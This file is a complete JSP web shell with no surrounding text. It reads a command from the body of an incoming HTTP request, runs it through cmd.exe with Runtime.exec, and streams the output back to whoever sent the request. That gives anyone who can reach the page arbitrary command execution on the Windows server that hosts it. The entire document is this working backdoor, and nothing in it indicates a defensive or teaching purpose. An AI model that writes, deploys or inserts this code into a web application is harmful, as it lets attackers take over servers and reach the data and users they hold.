<%@ page import="java.io.*" %>
<%
    Runtime rt = Runtime.getRuntime();
    BufferedReader in = new BufferedReader(new InputStreamReader(request.getInputStream()));
    Process p = rt.exec(new String[]{"cmd.exe", "/c", in.readLine()});
    InputStream is = p.getInputStream();
    int b; while ((b = is.read()) != -1) out.write(b);
%>
